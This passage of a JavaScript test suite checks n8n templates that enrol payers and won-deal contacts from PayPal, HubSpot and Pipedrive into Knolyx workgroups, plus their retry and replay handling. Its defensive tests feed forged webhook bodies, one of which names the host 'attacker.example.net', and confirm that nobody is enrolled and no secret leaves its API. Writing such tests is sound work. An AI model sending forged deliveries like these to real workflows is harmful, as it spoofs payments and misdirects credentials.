				r.body.includes(PAYPAL_OAUTH.clientSecret),
		);
		expect(withSecret).toEqual(tokenRequests);
		expectSecretOnlyTo(PAYPAL_TOKEN.access_token, 'api-m.paypal.com', 5);
	});

	test('a sandbox capture (PayPal reports it with links on api.sandbox.paypal.com) enrols nobody; with enrolSandboxPayments set to true in the mapping node it enrols', async () => {
		const sandboxCapture = {
			...structuredClone(PAYPAL.captureRead),
			links: PAYPAL.captureRead.links.map((l) => ({
				...l,
				href: l.href.replace('https://api.paypal.com', 'https://api.sandbox.paypal.com'),
			})),
		};
		paypalHas(CAPTURE, sandboxCapture);
		const { knolyxRequests } = await run('paypal', TRIGGER, captured);
		expect(knolyxRequests).toBe(0);
		await setField('paypal', 'Item → workgroup (edit me)', 'enrolSandboxPayments', true);
		try {
			const { state } = await run('paypal', TRIGGER, captured);
			expect(membersOf(state, 201)).toContain(ANNIE);
		} finally {
			await setField('paypal', 'Item → workgroup (edit me)', 'enrolSandboxPayments', false);
		}
	});
});

// ----------------------------------------------------------------- 6.

describe("6. HubSpot: a deal in a stage HubSpot's pipeline marks won enrols its contact, in every pipeline (a local stand-in for api.hubapi.com)", () => {
	const TRIGGER = 'On HubSpot deal stage changed';
	const MARY = 'mary.jackson@example.com';
	const deal = (d) => hubspotHas(`/deals/v1/deal/${d.dealId}`, d);
	const events = (dealId, stage) =>
		HUBSPOT.triggerOutput.map((e) => ({
			...e,
			eventId: e.eventId + (dealId % 1000),
			dealId,
			propertyValue: stage,
		}));

	beforeAll(async () => {
		await hubspotReads();
		deal(HUBSPOT.deal);
		deal(HUBSPOT.dealRenewals);
		hubspotHas('/contacts/v1/contact/vid/701/profile', HUBSPOT.contact);
		hubspotHas('/contacts/v1/contact/vid/702/profile', HUBSPOT.contactRenewals);
	});

	test("closedwon in the default pipeline: deal, pipeline and contact read from HubSpot with the app token; the contact is enrolled in the pipeline's workgroup; resent: nothing changes", async () => {
		const sent = apis.requests.length;
		const { state } = await run('hubspot', TRIGGER, { [TRIGGER]: HUBSPOT.triggerOutput });
		expect(membersOf(state, 202)).toContain(MARY);
		expect(userByEmail(state, MARY)).toMatchObject({ firstName: 'Mary', lastName: 'Jackson' });
		expect(apis.requests.slice(sent).map((r) => [r.host, r.path, r.headers.authorization])).toEqual(
			[
				[
					'api.hubapi.com',
					`/deals/v1/deal/${HUBSPOT.deal.dealId}`,
					`Bearer ${HUBSPOT_TOKEN.appToken}`,
				],
				['api.hubapi.com', '/crm/v3/pipelines/deals/default', `Bearer ${HUBSPOT_TOKEN.appToken}`],
				[
					'api.hubapi.com',
					'/contacts/v1/contact/vid/701/profile',
					`Bearer ${HUBSPOT_TOKEN.appToken}`,
				],
			],
		);
		await expectReplayChangesNothing('hubspot', TRIGGER, { [TRIGGER]: HUBSPOT.triggerOutput });
	});

	test("a won stage of a second pipeline (numeric ids, won by its metadata): enrolled in that pipeline's workgroup", async () => {
		const { state } = await run('hubspot', TRIGGER, {
			[TRIGGER]: events(HUBSPOT.dealRenewals.dealId, '18765437'),
		});
		expect(membersOf(state, 203)).toContain('dorothy.jv@example.com');
	});

	test('forged: a body that says closedwon for a deal HubSpot does not have fails and enrols nobody; for a deal HubSpot shows in contractsent, or in the lost stage of the second pipeline: nothing sent', async () => {
		const before = await sb.businessState();
		const failed = await runPinned(rest, WF.hubspot.id, TRIGGER, {
			[TRIGGER]: events(99999999, 'closedwon'),
		});
		expect(failed.status).toBe('error');
		const open = structuredClone(HUBSPOT.deal);
		open.dealId = 16592031500;
		open.properties.dealstage.value = 'contractsent';
		deal(open);
		const lost = structuredClone(HUBSPOT.dealRenewals);
		lost.dealId = 16592031501;
		lost.properties.dealstage.value = '18765438';
		deal(lost);
		for (const d of [open, lost]) {
			const { knolyxRequests } = await run('hubspot', TRIGGER, {
				[TRIGGER]: events(d.dealId, 'closedwon'),
			});
			expect(knolyxRequests).toBe(0);
		}
		expect(await sb.businessState()).toEqual(before);
	});

	test('a won deal without a contact, and one in a pipeline not in the mapping: each stops with a message naming it', async () => {
		const alone = structuredClone(HUBSPOT.deal);
		alone.dealId = 16592031502;
		alone.associations.associatedVids = [];
		deal(alone);
		await expectStop(
			'hubspot',
			TRIGGER,
			{ [TRIGGER]: events(alone.dealId, 'closedwon') },
			/HubSpot deal 16592031502 has no associated contact/,
		);
		const other = structuredClone(HUBSPOT.dealRenewals);
		other.dealId = 16592031503;
		other.properties.pipeline.value = '99999';
		deal(other);
		hubspotHas('/crm/v3/pipelines/deals/99999', { ...HUBSPOT.pipelineRenewals, id: '99999' });
		await expectStop(
			'hubspot',
			TRIGGER,
			{ [TRIGGER]: events(other.dealId, '18765437') },
			/HubSpot pipeline 99999 is not in the node "Pipeline → workgroup \(edit me\)"/,
		);
	});

	test('the app token went to api.hubapi.com only', () => {
		expectSecretOnlyTo(HUBSPOT_TOKEN.appToken, 'api.hubapi.com', 5);
	});
});

// ----------------------------------------------------------------- 7.

describe("7. Pipedrive: a deal Pipedrive's API (a local stand-in for api.pipedrive.com) reports won enrols its person (webhooks v2 and v1 bodies)", () => {
	const TRIGGER = 'On Pipedrive deal changed';
	const v2 = { [TRIGGER]: PIPEDRIVE.dealWonV2 };

	beforeAll(async () => {
		await useCredential(
			WF.pipedrive.id,
			'pipedriveApi',
			PIPEDRIVE_TOKEN,
			(n) => n.type === 'n8n-nodes-base.pipedrive',
		);
		pipedriveHas(`/deals/${PIPEDRIVE.dealReadV2.id}`, PIPEDRIVE.dealReadV2);
		pipedriveHas(`/deals/${PIPEDRIVE.dealReadV1.id}`, PIPEDRIVE.dealReadV1);
		pipedriveHas(`/persons/${PIPEDRIVE.personV2Deal.id}`, PIPEDRIVE.personV2Deal);
		pipedriveHas(`/persons/${PIPEDRIVE.personV1Deal.id}`, PIPEDRIVE.personV1Deal);
	});

	test("v2 body: deal and person read from Pipedrive with the API token; the person's primary e-mail is enrolled in the pipeline's workgroup; resent: nothing changes", async () => {
		const sent = apis.requests.length;
		const { state } = await run('pipedrive', TRIGGER, v2);
		expect(membersOf(state, 202)).toContain('evelyn.granville@example.com');
		expect(userByEmail(state, 'evelyn.granville@example.com')).toMatchObject({
			firstName: 'Evelyn',
			lastName: 'Boyd Granville',
		});
		expect(userByEmail(state, 'evelyn.private@example.com')).toBeUndefined();
		expect(
			apis.requests.slice(sent).map((r) => [r.host, r.method, r.path, r.query.api_token]),
		).toEqual([
			[
				'api.pipedrive.com',
				'GET',
				`/v1/deals/${PIPEDRIVE.dealReadV2.id}`,
				PIPEDRIVE_TOKEN.apiToken,
			],
			[
				'api.pipedrive.com',
				'GET',
				`/v1/persons/${PIPEDRIVE.personV2Deal.id}`,
				PIPEDRIVE_TOKEN.apiToken,
			],
		]);
		await expectReplayChangesNothing('pipedrive', TRIGGER, v2);
	});

	test('v1 body: enrolled in the workgroup of pipeline 3', async () => {
		const { state } = await run('pipedrive', TRIGGER, { [TRIGGER]: PIPEDRIVE.dealWonV1 });
		expect(membersOf(state, 203)).toContain('christine.darden@example.com');
	});

	test('forged: a won body for a deal Pipedrive does not have, naming another host, fails; a body that says won for a deal Pipedrive reports open, and a later edit of a won deal: nobody enrolled, nothing sent to another host', async () => {
		const before = await sb.businessState();
		const sent = apis.requests.length;
		const unknown = structuredClone(PIPEDRIVE.dealWonV2);
		unknown.meta.id = '0f0e0d0c-0b0a-4908-8706-050403020100';
		unknown.meta.entity_id = '99999';
		unknown.meta.host = 'attacker.example.net';
		unknown.data.id = 99999;
		const failed = await runPinned(rest, WF.pipedrive.id, TRIGGER, { [TRIGGER]: unknown });
		expect(failed.status).toBe('error');

		pipedriveHas(`/deals/${PIPEDRIVE.dealReadV2.id}`, { ...PIPEDRIVE.dealReadV2, status: 'open' });
		const edit = structuredClone(PIPEDRIVE.dealWonV2);
		edit.meta.id = '9c1d2e3f-4a5b-4c6d-8e7f-0a1b2c3d4e5f';
		edit.previous = { title: 'Advanced Automation' };
		try {
			for (const p of [v2, { [TRIGGER]: edit }]) {
				const { knolyxRequests } = await run('pipedrive', TRIGGER, p);
				expect(knolyxRequests).toBe(0);
			}
		} finally {
			pipedriveHas(`/deals/${PIPEDRIVE.dealReadV2.id}`, PIPEDRIVE.dealReadV2);
		}
		expect(await sb.businessState()).toEqual(before);
		// The edit stops before any read: only the deal reads.
		expect(apis.requests.slice(sent).map((r) => [r.host, r.path, r.status])).toEqual([
			['api.pipedrive.com', '/v1/deals/99999', 404],
			['api.pipedrive.com', `/v1/deals/${PIPEDRIVE.dealReadV2.id}`, 200],
		]);
		expect(apis.refused).toEqual([]);
	});

	test('a won deal without a person (person_id null): stops with a message naming the deal', async () => {
		pipedriveHas(`/deals/${PIPEDRIVE.dealReadV2.id}`, { ...PIPEDRIVE.dealReadV2, person_id: null });
		try {
			await expectStop('pipedrive', TRIGGER, v2, /Pipedrive deal 318 has no person/);
		} finally {
			pipedriveHas(`/deals/${PIPEDRIVE.dealReadV2.id}`, PIPEDRIVE.dealReadV2);
		}
	});

	test('the API token went to api.pipedrive.com only', () => {
		expectSecretOnlyTo(PIPEDRIVE_TOKEN.apiToken, 'api.pipedrive.com', 5);
	});
});

// ----------------------------------------------------------------- 8.

describe('8. Course completed → HubSpot, Google Sheets, Slack (published; a real sandbox delivery)', () => {
	const tool = (name) => WF.completed.nodes.find((n) => n.name === name);

	test('each tool node gets its mapped fields; the switched-off tool nodes pass them on and call nothing', async () => {
		await rest.activateWorkflow(WF.completed.id);
		expect((await sb.webhooks()).length).toBe(1);
		await sb.activity('course-completed', { email: 'ada@example.com', courseId: 101 });
		const [done] = await waitForExecutions(rest, WF.completed.id, 1);
		expect(done.status).toBe('success');
		const ex = await execution(rest, done.id);
		const [event] = nodeOutput(ex, 'On course completed');
		expect(event).toMatchObject({
			event: 'COURSE_COMPLETED',
			user: { email: 'ada@example.com' },
			course: { id: 101 },
		});

		expect(nodeOutput(ex, 'Contact fields for HubSpot')).toEqual([
			{
				email: 'ada@example.com',
				lastCourseCompleted: event.course.name,
				// HubSpot's date-time properties take epoch milliseconds.
				lastCourseCompletedAt: new Date(event.receivedAt).getTime(),
			},
		]);
		expect(nodeOutput(ex, 'Row for Google Sheets')).toEqual([
			{
				Email: 'ada@example.com',
				Name: event.user.name,
				Course: event.course.name,
				'Course ID': 101,
				'Completed at': event.receivedAt,
			},
		]);
		expect(nodeOutput(ex, 'Slack message')).toEqual([
			{
				text: `:mortar_board: ${event.user.name} (ada@example.com) completed *${event.course.name}*`,
			},
		]);
		// Switched off (disabled), each tool node passed its item through: nothing was called.
		for (const [name, from] of [
			['Update contact in HubSpot', 'Contact fields for HubSpot'],
			['Append row in Google Sheets', 'Row for Google Sheets'],
			['Post in Slack', 'Slack message'],
		]) {
			expect(nodeOutput(ex, name)).toEqual(nodeOutput(ex, from));
		}
		// The tool nodes read exactly those fields.
		expect(tool('Update contact in HubSpot').parameters).toMatchObject({
			email: '={{ $json.email }}',
			additionalFields: {
				customPropertiesUi: {
					customPropertiesValues: [
						{ property: 'knolyx_last_course_completed', value: '={{ $json.lastCourseCompleted }}' },
						{
							property: 'knolyx_last_course_completed_at',
							value: '={{ $json.lastCourseCompletedAt }}',
						},
					],
				},
			},
		});
		expect(tool('Append row in Google Sheets').parameters.columns.mappingMode).toBe(
			'autoMapInputData',
		);
		expect(tool('Post in Slack').parameters.text).toBe('={{ $json.text }}');
		expect((await executionsOf(rest, WF.completed.id)).length).toBe(1);
	});
});

// ----------------------------------------------------------------- 9.

describe('9. Form → event registration (published; the form submitted over HTTP)', () => {
	const submit = async (answers) => {
		const form = new FormData();
		answers.forEach((value, i) => form.append(`field-${i}`, value));
		const { webhookId } = WF.form.nodes.find((n) => n.type === 'n8n-nodes-base.formTrigger');
		const res = await fetch(`${n8n.url}/form/${webhookId}`, {
			method: 'POST',
			body: form,
		});
		expect(res.status).toBe(200);
	};

	test('an answer registers the person for the event (workgroup 204, attendance of event 401); the same answer again changes nothing', async () => {
		await rest.activateWorkflow(WF.form.id);
		await submit(['Hedy', 'Lamarr', 'hedy.lamarr@example.com']);
		const [first] = await waitForExecutions(rest, WF.form.id, 1);
		expect(first.status).toBe('success');
		const state = await sb.state();
		const hedy = userByEmail(state, 'hedy.lamarr@example.com');
		expect(hedy).toMatchObject({ firstName: 'Hedy', lastName: 'Lamarr' });
		expect(membersOf(state, 204)).toContain('hedy.lamarr@example.com');
		expect(state.events.find((e) => e.id === 401).attendeeIds).toContain(hedy.id);

		const before = await sb.businessState();
		await submit(['Hedy', 'Lamarr', 'hedy.lamarr@example.com']);
		const list = await waitForExecutions(rest, WF.form.id, 2);
		expect(list.map((e) => e.status)).toEqual(['success', 'success']);
		expect(await sb.businessState()).toEqual(before);
	});
});

// ----------------------------------------------------------------- 10.

describe("10. the editor's own import (Chromium): two imports of one template get two URLs, each working", () => {
	let browser;
	let page;

	/** A test of two or four imports in all, each waiting up to EDITOR_LOAD_MS for the editor. */
	const EDITOR_TEST_MS = 4 * EDITOR_LOAD_MS + 60_000;

	/** The workflows this section's imports saved: a save is looked for among the others only. */
	const savedIds = new Set();

	beforeAll(async () => {
		({ page, ...browser } = await launchBrowser());
		// Leaving a workflow with unsaved changes asks first (beforeunload): leave.
		page.on('dialog', (dialog) => dialog.accept().catch(() => undefined));
		// Signed in, the editor opens a new workflow in the same page load.
		await signIn(page, n8n.url, OWNER, { then: '/workflow/new' });
	}, 120_000);

	afterAll(async () => {
		await browser?.close();
	});

	/** Import `file` as a user does (*⋯ → Import from File* in a new workflow), save; returns the stored workflow. */
	async function importInEditor(file, label) {
		// After the first, each import starts from a new workflow the way the editor's own links open
		// one (its router: no new page load). With a page load per import this section's three tests
		// took 91 s on 2.41.1 on an idle machine, without it 34 s (2026-11-28).
		if (savedIds.size > 0)
			await page.evaluate(() =>
				document
					.querySelector('#app')
					.__vue_app__.config.globalProperties.$router.push('/workflow/new'),
			);
		// The editor's first paint: on 1.123.81 beside CI's other two lanes (2026-11-28) every import of
		// this section waited more than playwright's 30 s for it; it passed on an idle machine.
		await page
			.locator('[data-test-id=canvas-add-button], [data-test-id=canvas-plus-button]')
			.first()
			.waitFor({ timeout: EDITOR_LOAD_MS });
		const text = fs.readFileSync(path.join(REPO_ROOT, 'examples', file), 'utf8');
		const input = page.locator('[data-test-id=workflow-import-input]');
		if (
			await input.waitFor({ state: 'attached', timeout: 5_000 }).then(
				() => true,
				() => false,
			)
		) {
			// *⋯ → Import from File*: the menu item opens this input's file chooser.
			await input.setInputFiles(path.join(REPO_ROOT, 'examples', file));
		} else {
			// The header's input is not there yet: paste the file's JSON on the canvas (Ctrl+V), the
			// editor's other import, which gives webhook IDs the same way.
			await page.evaluate((json) => {
				const data = new DataTransfer();
				data.setData('text/plain', json);
				document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true }));
			}, text);
		}
		const expected = readExample(file).nodes.length;
		// The canvas shows the imported nodes (how many it draws at once is the canvas's business:
		// the stored workflow below is what counts).
		await waitFor(async () => (await page.locator('[data-test-id=canvas-node]').count()) > 1, {
			what: `the canvas to show ${file}`,
		});
		await sleep(1000);
		await page.keyboard.press('Control+s');
		const saved = await waitFor(
			async () => {
				const id = /\/workflow\/([^/?#]+)/.exec(page.url())?.[1];
				if (!id || id === 'new' || savedIds.has(id)) return undefined;
				const wf = await rest.request('GET', `/rest/workflows/${id}`).catch(() => undefined);
				return wf?.nodes?.length === expected ? wf : undefined;
			},
			{ what: `the editor to save the imported ${file}` },
		);
		savedIds.add(saved.id);
		await screenshot(page, `templates-import-${label}`);
		return saved;
	}

	const hookIds = (wf) => wf.nodes.filter((n) => /Trigger$/.test(n.type)).map((n) => n.webhookId);

	test(
		'the Stripe template twice: each trigger has its own webhook ID (its URL path)',
		async () => {
			const first = await importInEditor('template-stripe-enrolment.json', 'stripe-1');
			const second = await importInEditor('template-stripe-enrolment.json', 'stripe-2');
			const [a] = hookIds(first);
			const [b] = hookIds(second);
			expect(a).toMatch(/^[0-9a-f-]{36}$/);
			expect(b).toMatch(/^[0-9a-f-]{36}$/);
			expect(a).not.toBe(b);
		},
		EDITOR_TEST_MS,
	);

	test(
		'the form template twice, both published: two different form URLs, each serving its form',
		async () => {
			const forms = [];
			for (const label of ['form-1', 'form-2']) {
				const wf = await importInEditor('template-form-event-registration.json', label);
				// Set up as the note says (step 1-2): the Knolyx credential and the three IDs.
				const set = setUpTemplate(wf, { credential: CREDENTIAL, mapping: FORM_MAPPING });
				await rest.request('PATCH', `/rest/workflows/${wf.id}`, { ...wf, nodes: set.nodes });
				await rest.activateWorkflow(wf.id);
				forms.push(wf);
			}
			const urls = forms.map((wf) => `${n8n.url}/form/${hookIds(wf)[0]}`);
			expect(new Set(urls).size).toBe(2);
			for (const url of urls) {
				const res = await fetch(url);
				expect({ url, status: res.status }).toEqual({ url, status: 200 });
				expect(await res.text()).toContain('Register for the Monthly Automation Meetup');
			}
			for (const wf of forms) await rest.deactivateWorkflow(wf.id);
		},
		EDITOR_TEST_MS,
	);
	test(
		'Flow B and the MCP example twice: each import gets its own path (its webhook ID); both Flow B copies published answer on their own URL only',
		async () => {
			const flowB = [];
			for (const label of ['flow-b-1', 'flow-b-2'])
				flowB.push(await importInEditor('flow-b-payment-enrolment.json', label));
			const mcp = [];
			for (const label of ['mcp-1', 'mcp-2'])
				mcp.push(await importInEditor('mcp-agent-tools.json', label));
			const pathOf = (wf) => wf.nodes.find((n) => PATH_FROM_WEBHOOK_ID.includes(n.type));
			for (const pair of [flowB, mcp]) {
				const [a, b] = pair.map(pathOf);
				expect(a.parameters.path).toMatch(/^[0-9a-f-]{36}$/);
				expect(a.parameters.path).toBe(a.webhookId);
				expect(b.parameters.path).toBe(b.webhookId);
				expect(a.parameters.path).not.toBe(b.parameters.path);
			}
			// The imports kept the example's credentials (the run has both): publish and call each copy.
			const buyer = (i) => ({
				email: `two.imports.${i}@example.com`,
				firstName: 'Two',
				lastName: `Imports ${i}`,
			});
			for (const wf of flowB) await rest.activateWorkflow(wf.id);
			try {
				for (const [i, wf] of flowB.entries()) {
					const before = (await executionsOf(rest, wf.id)).length;
					const res = await fetch(`${n8n.url}/webhook/${pathOf(wf).parameters.path}`, {
						method: 'POST',
						headers: PAYMENT_HOOK_HEADERS,
						body: JSON.stringify(buyer(i)),
					});
					expect(res.status).toBe(200);
					const [latest] = await waitForExecutions(rest, wf.id, before + 1);
					expect((await execution(rest, latest.id)).status).toBe('success');
					expect(membersOf(await sb.state(), 201)).toContain(buyer(i).email);
				}
				// The old shared path is nobody's any more.
				const shared = await fetch(`${n8n.url}/webhook/knolyx-payment-received`, {
					method: 'POST',
					headers: PAYMENT_HOOK_HEADERS,
					body: JSON.stringify(buyer(9)),
				});
				expect(shared.status).toBe(404);
			} finally {
				for (const wf of flowB) await rest.deactivateWorkflow(wf.id);
			}
		},
		EDITOR_TEST_MS,
	);
});

// Every template has a describe above.
test('every examples/template-*.json is covered', () => {
	expect(TEMPLATE_FILES.sort()).toEqual(Object.values(FILE_OF).sort());
	for (const wf of Object.values(WF))
		expect(wf.nodes.filter((n) => isKnolyxType(n.type)).length).toBeGreaterThan(0);
});

// ----------------------------------------------------------------- 11.

/**
 * A published template and the tool's deliveries: `deliver(body, headers?)` posts to the
 * trigger's production URL as the tool does and returns the execution it started (or undefined
 * when none started). Knolyx refuses the first write: the execution fails and nobody is enrolled;
 * the same delivery again enrols `email` in `workgroup` once; once more, "Skip events already
 * handled" stops it before any request to the tool or to Knolyx (static data, saved by published
 * executions only).
 */
async function expectResendAfterFailureEnrolsOnce(
	key,
	deliver,
	{ email, workgroup, toolHost, triggerChecks },
) {
	await sb.request('POST', '/sandbox/fault-burst', {
		requests: 1,
		faults: { errorRate: 1, errorStatuses: [400] },
	});
	let failed;
	try {
		failed = await deliver();
	} finally {
		await sb.request('DELETE', '/sandbox/fault-burst');
	}
	expect(failed.mode).not.toBe('manual');
	expect(failed.status).toBe('error');
	expect(membersOf(await sb.state(), workgroup)).not.toContain(email);

	const redone = await deliver();
	expect(redone.status).toBe('success');
	expect(membersOf(await sb.state(), workgroup).filter((e) => e === email)).toHaveLength(1);
	expect(nodeOutput(redone, 'Remember the event as handled')).toEqual([
		expect.objectContaining({ email, workgroupId: workgroup }),
	]);

	const knolyxBefore = (await sb.stats()).requests;
	const toolBefore = apis.requests.length;
	const businessBefore = await sb.businessState();
	const replay = await deliver();
	expect(replay.status).toBe('success');
	expect(nodeOutput(replay, 'Skip events already handled')).toEqual([]);
	expect((await sb.stats()).requests - knolyxBefore).toBe(0);
	// Nothing read from the tool (`triggerChecks`: the requests the trigger itself makes to check a
	// delivery, e.g. PayPal's verification, which come before the workflow's first node).
	expect(
		apis.requests
			.slice(toolBefore)
			.filter((r) => r.host === toolHost && !triggerChecks?.test(r.path)),
	).toEqual([]);
	expect(await sb.businessState()).toEqual(businessBefore);
	return { failed, redone, replay };
}

/**
 * Every sandbox request answers 503 (Knolyx down) until knolyxBack(). By default with
 * `Retry-After: 3600`, as a platform down for maintenance may say (the guides document no
 * Retry-After: knolyx-facts.md): longer than the node waits for an item, so its write fails at once
 * and the template's error branch runs. `{ retryAfter: false }`: a plain 503, which the node sends
 * again with its backoff (8 tries over 15 to 31 s before the error branch), so that runs of the
 * workflow overlap; the backoff itself is test/faults' and test/action's.
 */
const knolyxDown = ({ retryAfter = true } = {}) =>
	sb.request('POST', '/sandbox/fault-burst', {
		requests: 10_000,
		faults: { errorRate: 1, errorStatuses: [503], ...(retryAfter ? { retryAfter: '3600' } : {}) },
	});
const knolyxBack = () => sb.request('DELETE', '/sandbox/fault-burst');

/**
 * The retry schedule of a published template (issue 36), as the tests drive it: `everyTwoSeconds()`
 * sets its Schedule Trigger to every 2 s (the template ships 15 minutes); `deliver(url, body,
 * headersOf)` posts a delivery and returns the webhook execution it started (the schedule's own
 * runs start meanwhile), `deliverAll(url, [{ body, headers }])` several at once; `rowOf(key)` the row of the workflow's data table; `knolyxDown()` makes
 * every sandbox request answer 503 until `knolyxBack()`; `until(check)` waits for the schedule's
 * runs to make `check()` hold; `settled()` for every run in flight; `scheduleRuns(n)` for n more.
 */
function healing(key) {
	const newestId = async () => Number((await executionsOf(rest, WF[key].id))[0]?.id ?? 0);
	const rowOf = async (k) => (await pending[key].rows()).find((r) => r.key === k);
	/** Wait until every run of the workflow up to execution `upTo` (all: Infinity) has finished. */
	const runsDone = (upTo, timeoutMs) =>
		waitFor(
			async () =>
				(await executionsOf(rest, WF[key].id))
					.filter((e) => Number(e.id) <= upTo)
					.every((e) => DONE.has(e.status)),
			{
				timeoutMs,
				what: `the runs of ${key} ${upTo === Infinity ? 'in flight' : `up to execution ${upTo}`}`,
			},
		);
	const finishedAfter = async (afterId, mode) => {
		const list = (await executionsOf(rest, WF[key].id)).filter(
			(e) => Number(e.id) > afterId && e.mode === mode,
		);
		return list.every((e) => DONE.has(e.status)) ? list : [];
	};
	/**
	 * POST every delivery at once; the webhook executions started since, once as many as there
	 * were deliveries have finished (within `timeoutMs`).
	 */
	const deliverAll = async (url, deliveries, timeoutMs = 90_000) => {
		const after = await newestId();
		const answers = await Promise.all(
			deliveries.map(({ body, headers }) => fetch(url, { method: 'POST', headers, body })),
		);
		expect(answers.map((r) => r.status)).toEqual(deliveries.map(() => 200));
		const list = await waitFor(
			async () => {
				const done = await finishedAfter(after, 'webhook');
				return done.length >= deliveries.length && done;
			},
			{ timeoutMs, what: `the executions of ${deliveries.length} deliveries to ${key}` },
		);
		return Promise.all(list.map((e) => execution(rest, e.id)));
	};
	return {
		everyTwoSeconds: () =>
			editWorkflow(rest, WF[key].id, (wf) => {
				wf.nodes.find((n) => n.name === 'Retry pending writes every 15 minutes').parameters.rule = {
					interval: [{ field: 'seconds', secondsInterval: 2 }],
				};
				return wf;
			}),
		async deliver(url, body, headersOf) {
			const [ex] = await deliverAll(url, [{ body, headers: headersOf(body) }], 60_000);
			return ex;
		},
		deliverAll,
		rowOf,
		knolyxDown,
		knolyxBack,
		until: (check, what) => waitFor(check, { timeoutMs: 90_000, what }),
		/** Wait until the row of `k` has `status`; the row (on a timeout, the error shows the row). */
		rowWith: async (k, status) => {
			try {
				return await waitFor(
					async () => {
						const row = await rowOf(k);
						return row?.status === status && row;
					},
					{ timeoutMs: 90_000, what: `the row ${k} of ${key} ${status}` },
				);
			} catch (e) {
				throw new Error(`${e.message}; the row: ${JSON.stringify(await rowOf(k))}`);
			}
		},
		/**
		 * The tool's state just changed: wait until a run has read `toolPath` since, and until every
		 * run started by then has finished, so that no run still acts on what it read before.
		 */
		async readAgain(toolPath) {
			const from = apis.requests.length;
			await waitFor(
				async () =>
					apis.requests
						.slice(from)
						.some((r) => r.path === toolPath || r.path.startsWith(`${toolPath}?`)),
				{
					timeoutMs: 60_000,
					what: `a run of ${key} reading ${toolPath} again`,
				},
			);
			await runsDone(await newestId(), 90_000);
		},
		settled: () => runsDone(Infinity, 60_000),
		async scheduleRuns(count) {
			const after = await newestId();
			await waitFor(async () => (await finishedAfter(after, 'trigger')).length >= count, {
				timeoutMs: 60_000,
				what: `${count} runs of the retry schedule of ${key}`,
			});
		},
	};
}

/**
 * The requests of a sweep (issue 56): what the schedule's runs read of what changed at the tool.
 * They are the schedule's, not a delivery's: a delivery that stops before any request makes none.
 */
const SWEEP_LISTS =
	/^\/v1\/(events|recents|notifications\/webhooks-events)$|^\/admin\/api\/[\d-]+\/+orders\.json$|^\/crm\/v3\/objects\/deals\/search$|^\/wp-json\/wc\/v3\/orders$/;

/**
 * A quiet sweep: once every run in flight has finished, three more runs of the schedule send nothing
 * to Knolyx and, to the tool at `host`, only the sweep's list request (`method`), at least one a
 * run (besides an OAuth2 token request at `token`, when given). Returns those requests.
 */
async function expectQuietSweeps(heal, host, method, { token } = {}) {
	await heal.settled();
	const knolyxBefore = (await sb.stats()).requests;
	const toolBefore = apis.requests.length;
	await heal.scheduleRuns(3);
	// `token`: the path of an OAuth2 token request n8n may make for its credential (PayPal's).
	const reads = apis.requests
		.slice(toolBefore)
		.filter((r) => r.host === host && !(token && r.path === token));
	expect(reads.length).toBeGreaterThanOrEqual(3);
	expect(reads.filter((r) => r.method !== method || !SWEEP_LISTS.test(r.path))).toEqual([]);
	expect((await sb.stats()).requests - knolyxBefore).toBe(0);
	return reads;
}

/**
 * A refund the sweep found (its row `key`) removed `email` from workgroup 201, and the next runs,
 * which list the payment again in their overlap, do not enrol them again.
 */
async function expectSweptRemoval(heal, key, email) {
	const removed = await heal.rowWith(key, 'done');
	expect(removed.detail).toBe(`removed ${email} (workgroup 201)`);
	expect(membersOf(await sb.state(), 201)).not.toContain(email);
	await heal.settled();
	await heal.scheduleRuns(2);
	expect(membersOf(await sb.state(), 201)).not.toContain(email);
}

/**
 * Knolyx down across sweeps: the change `undelivered()` makes at the tool (never delivered; it
 * returns its row's key) is tried and kept as pending without a failed run, and enrolled in
 * workgroup 201 once Knolyx is back.
 */
async function expectSweptAcrossOutage(heal, id, email, undelivered) {
	const failedBefore = await failedScheduleRuns(id);
	await heal.knolyxDown();
	let key;
	try {
		key = undelivered();
		await heal.until(
			async () => (await heal.rowOf(key))?.attempts >= 1,
			'a swept write tried while Knolyx is down',
		);
		expectKept(await heal.rowOf(key));
		expect(userByEmail(await sb.state(), email)).toBeUndefined();
	} finally {
		await heal.knolyxBack();
	}
	const row = await heal.rowWith(key, 'done');
	expect(row.detail).toBe(`enrolled ${email} (workgroup 201)`);
	expect(membersOf(await sb.state(), 201).filter((e) => e === email)).toEqual([email]);
	await heal.settled();
	expect(await failedScheduleRuns(id)).toBe(failedBefore);
}

/** How many runs of the retry schedule of workflow `id` failed. */
const failedScheduleRuns = async (id) =>
	(await executionsOf(rest, id)).filter((e) => e.mode === 'trigger' && e.status === 'error').length;

/**
 * A write kept for the retry schedule: `pending`, or already `retrying` when a run of the schedule
 * (every 2 s here) claimed it before the test read the row.
 */
function expectKept(row) {
	expect(row).toMatchObject({ status: expect.stringMatching(/^(pending|retrying)$/) });
	expect(row.attempts).toBeGreaterThanOrEqual(1);
}

/**
 * A published template with its retry schedule every 2 s (issue 36): `setUp()` as for
 * describePublished; `fresh()` puts a new paid object in the tool's stand-in and returns its
 * delivery ({ body, headers, key: its row's key, email, workgroup }). Knolyx down: the delivery's
 * execution fails and the write is kept as pending; Knolyx back: the schedule writes it once and
 * closes the row, and its later runs send nothing. `more(heal)` adds the tool's own tests.
 */
function describeHealing(title, { key, trigger, setUp, fresh, more }) {
	describe(title, () => {
		const heal = healing(key);

		beforeAll(async () => {
			await setUp();
			await heal.everyTwoSeconds();
			await rest.activateWorkflow(WF[key].id);
		}, 60_000);

		afterAll(async () => {
			await heal.knolyxBack();
			await rest.deactivateWorkflow(WF[key].id);
		}, 60_000);

		test('Knolyx down: the delivery fails and is kept as pending; Knolyx back: the schedule writes it, once, and closes the row; later runs send nothing', async () => {
			const f = fresh();
			await heal.knolyxDown();
			try {
				const failed = await heal.deliver(productionUrl(key, trigger), f.body, () => f.headers);
				expect(failed.status).toBe('error');
				expect(failed.run.resultData.error.message).toMatch(
					/^Knolyx did not take the write for .*: .*Kept as pending in the data table \(try 1 of 96\); this workflow tries it again every 15 minutes/,
				);
				expectKept(await heal.rowOf(f.key));
			} finally {
				await heal.knolyxBack();
			}
			const row = await heal.rowWith(f.key, 'done');
			expect(row.detail).toBe(`enrolled ${f.email} (workgroup ${f.workgroup})`);
			// Every run that had claimed the row has finished (a claim moves it from pending to
			// retrying, so no two runs take it); two more runs: nothing sent to Knolyx.
			await heal.settled();
			const knolyxBefore = (await sb.stats()).requests;
			await heal.scheduleRuns(2);
			expect((await sb.stats()).requests - knolyxBefore).toBe(0);
			expect(membersOf(await sb.state(), f.workgroup).filter((e) => e === f.email)).toEqual([
				f.email,
			]);
